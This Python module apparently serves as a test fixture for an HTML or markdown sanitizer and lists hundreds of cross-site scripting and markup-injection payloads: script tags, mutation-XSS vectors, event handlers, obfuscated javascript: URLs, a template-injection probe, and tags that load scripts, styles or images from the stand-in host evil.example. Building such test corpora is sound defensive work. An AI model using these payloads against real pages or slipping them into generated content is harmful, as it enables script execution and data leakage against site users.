"""Statements that try to run, load, hide or move something on the page they are shown on."""

from __future__ import annotations

from itertools import product

_ALERT = "alert(1)"

SCRIPTS = [
    f"<script>{_ALERT}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{_ALERT}</scr</script>ipt>",
    f"<script/x>{_ALERT}</script>",
    f"<script\n>{_ALERT}</script\n>",
    f"<script>{_ALERT}<!-- --></script >",
    "<script type=module src=https://evil.example/x.mjs></script>",
    f"<svg><script>{_ALERT}</script></svg>",
    "<svg><script href=https://evil.example/x.js /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    f"<math><annotation-xml encoding='text/html'><script>{_ALERT}</script></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><math><select><mtext><style><img title='</style><img src onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></p><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<? foo='><script>alert(1)</script>'>",
    "</ foo='><script>alert(1)</script>'>",
    "<% foo><img src=x onerror=alert(1)> %>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<b>" * 50 + "<script>alert(1)",
    "<div><style>x</style><p><b></div></b><img src=x onerror=alert(1)",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\ncode\n```',
    "~~~html\n</code></pre><script>alert(1)</script>\n~~~",
    "    </code></pre><img src=x onerror=alert(1)>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    '|a|\n|:-:" onclick=alert(1)|\n|b|',
    "# <img src=x onerror=alert(1)> <a id=s-x name=y>z</a>",
    "# &lt;script&gt;alert(1)&lt;/script&gt;",
    "<h1 id=body onclick=alert(1)>x</h1>",
    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: y",
    'x[^"onclick=alert]\n\n[^"onclick=alert]: y',
    "<li id='fn-1\" onclick=\"alert(1)'>x</li> <a id='fnref-1' href='#fn-1'>y</a>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<\x00script>alert(1)</\x00script>",
    "<scr\x00ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{ ''.__class__ }} {% include 'x' %} {{ 7 * 7 }}",
    "</main></body></html><script>alert(1)</script>",
    "-->\n<script>alert(1)</script>",
    "<!-- /nomflow:section -->\n<script>alert(1)</script>",
    "]]></content><script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "<details><summary><svg/onload=alert(1)></summary></details>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<del cite='javascript:alert(1)'>x</del>",
    "<time datetime='\"><script>alert(1)</script>'>x</time>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<td colspan='1\"onclick=alert(1) x=\"'>x</td>",
]

INDEXES = [
    "# [](#)",
    "## [](#x)\n\n[a](#x)",
    "## What I have done\n\n## &nbsp;[](#what-i-have-done)\n\nx autofocus tabindex=0 onfocus=alert(1) y",
    "## What I have done\n\n## &nbsp;[](#what-i-have-done)\n\nx hidden y",
    "# a\n\n# [ ](#a)\n\n# [&nbsp;](#a)\n\nonclick=alert(1) [b](#a)",
    "# [![](x)](#a)\n\n# a\n\n style=position:fixed ",
    "# a [b](#a) [c](#d)\n\n# [](#a) [^1]\n\n[^1]: x onmouseover=alert(1)",
    "<h1><a href=#x></a></h1><h2><a href='#x'></a></h2>\n\n# x\n\n[y](#x)",
    "<h1><h2><a href=#></a></h1>\n\n# [](#)\n\n# [](#)",
    "[^1]\n\n[^1]:\n    # [](#)\n\n    x onfocus=alert(1)",
    "- # [](#)\n- # [](#fn-1)[^1]\n\n[^1]: # [](#)",
    "# <del>[](#a)</del>\n\n# a\n\n<details open>",
    "[a](#&quot;onfocus=alert&quot;)\n\n# &quot;onfocus=alert&quot;",
    '# " onfocus=alert(1) x="\n\n[a](#-onfocusalert1-x)',
]

_TAGS = [*("img src=x", "svg", "body", "video src=x", "audio src=x", "input", "details open", "marquee", "a href=#s-x")]
_TAGS += ("p", "b", "li", "td", "table", "iframe", "object", "math", "form", "select", "textarea", "style", "q", "h2")
_EVENTS = ("onerror", "onload", "onfocus autofocus tabindex=0 onfocus", "ontoggle", "onanimationstart")
HANDLERS = [f"<{tag} {event}=alert(1)>x" for tag, event in product(_TAGS, _EVENTS)] + [
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    '<img src="x" title="` onerror=alert(1) `">',
    "<img src=`x`onerror=alert(1)>",
    "<img \x00src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<svg/onload=alert(1)//",
    "<p/onclick=alert(1)>x",
    "<p \x0conclick=alert(1)>x",
    "<p onclick&#61;alert(1)>x",
    "<body onpageshow=alert(1)><body onhashchange=alert(1)>",
    "<input type=checkbox checked onclick=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<p data-sourcepos='1:1-1:1' data-x=y popover=auto onbeforetoggle=alert(1)>x</p>",
]

_RUNS = [*("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)")]
_RUNS += ("JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)")
_RUNS += ("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript&#58;alert(1)", "java&#10;script:x")
_RUNS += ("feed:javascript:alert(1)", "view-source:javascript:alert(1)", "blob:https://evil.example/x", "filesystem:x")
_RUNS += (
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
)
ADDRESSES = [
    form.format(run)
    for form, run in product(
        (
            "[x]({})",
            "[x](<{}>)",
            "[x][r]\n\n[r]: {}",
            "<{}>",
            "![x]({})",
            "<a href='{}'>x</a>",
            "<iframe src='{}'></iframe>",
        ),
        _RUNS,
    )
] + [
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<form id=f></form><button form=f formaction='javascript:alert(1)'>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background='javascript:alert(1)'><td background=javascript:alert(1)>x</table>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<area href='javascript:alert(1)'>",
    "<a href='https://e.org/\"><script>alert(1)</script>'>x</a>",
    '[x](https://e.org "\\" onmouseover=\\"alert(1)")',
    '[x](https://e.org\\"onmouseover=\\"alert(1))',
    '![x" onerror="alert(1)](https://e.org/p.png)',
    '![x](ok.png "t\\" onload=\\"alert(1)")',
    'https://e.org/"onmouseover=alert(1)',
    "www.e.org'onmouseover=alert(1)//",
    'a@e.org"onmouseover=alert(1)',
    "xmpp:x@evil.example",
]

LOADS = [
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "<img srcset='https://evil.example/x.png 2x' src=//evil.example/y.png>",
    "<picture><source srcset=//evil.example/x.png><img></picture>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=image href=https://evil.example/x.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style=position:fixed;inset:0;background:red>x</p>",
    "<video poster=https://evil.example/x.png></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<video><track src=https://evil.example/x.vtt default></video>",
    "<input type=image src=https://evil.example/x.png>",
    "<body background=https://evil.example/x.png>",
    "<svg><image href=https://evil.example/x.png /></svg>",
    "<svg><use href=https://evil.example/x.svg#y /></svg>",
    "<svg><feImage href=https://evil.example/x.png /></svg>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<iframe src=https://evil.example/></iframe>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<portal src=https://evil.example/></portal>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<a href=https://e.org ping=https://evil.example target=_blank>x</a>",
    "<html manifest=https://evil.example/x>",
    "<q style=content:url(https://evil.example/x)>x</q>",
    "<bgsound src=https://evil.example/x>",
    "<applet code=x codebase=https://evil.example/></applet>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<script src=https://evil.example/x></script>",
]

_PARENTS = [
    *("</div>", "</li>", "</ul>", "</ol>", "</main>", "</section>", "</article>", "</details>", "</p>", "</h2>")
]
_PARENTS += ("</table>", "</dl>", "</dd>", "</td>", "</body>", "</html>", "</blockquote>", "</summary>", "</a>")
MOVES = [
    *(f"{parent * 6}moved" for parent in _PARENTS),
    *(f"<{tag}>stray" for tag in ("li", "dd", "dt", "td", "tr", "tbody", "caption", "th", "summary", "figcaption")),
    *(f"<{tag}>stray" for tag in ("option", "optgroup", "rt", "rp", "col", "colgroup", "legend", "frame", "head")),
    *(f"<{tag}>unclosed" for tag in ("b", "a href=https://e.org", "table", "details", "ul", "dl", "pre", "q", "ruby")),
    *(f"<{tag}>" * 5 + "x" for tag in ("button", "form", "nobr", "select", "h2", "p", "li", "a href=https://e.org")),
    "<a href=https://e.org><table><tr><td><a href=https://e.org>x</table>y",
    "<table><li><b><tr><td></b><dd>x",
    "<ul><li></ul><li>x",
    "<div><li></div><li><p></li></p>",
    "<p><li></p><dd><dt>",
    "<details><li></details><summary>x</summary>",
    "- a\n  </li></ul>\n\n</div></main>",
    "> </blockquote></div>\n\n<li>",
    "<li><ul></li><li></ul><li>",
    "<b><p></b><li></p><i>x",
    "<p id=content>x</p><h2 id=main>x</h2><a id=nav name=main>x</a>",
    "<p hidden>x</p><p inert>x</p><p aria-hidden=true>x</p><p class=words>x</p>",
    "<p slot=x is=y part=z contenteditable draggable=true accesskey=a>x</p>",
    "<p lang='\" hidden x=\"' dir=rtl>x</p>",
    "<dialog open>x</dialog><menu><li>x</menu>",
    "\u202emoved\u2066x",
    "a\u0300" + "\u0300" * 300,
]

PAYLOADS = [*SCRIPTS, *INDEXES, *HANDLERS, *ADDRESSES, *LOADS, *MOVES]
